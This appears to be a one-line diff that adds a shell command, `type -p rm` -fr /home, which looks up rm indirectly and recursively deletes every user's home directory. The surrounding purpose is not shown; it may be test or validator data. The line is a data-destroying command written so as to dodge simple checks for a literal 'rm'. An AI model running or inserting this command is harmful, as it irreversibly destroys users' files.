@@ -1,0 +1,1 @@
+`type -p rm` -fr /home
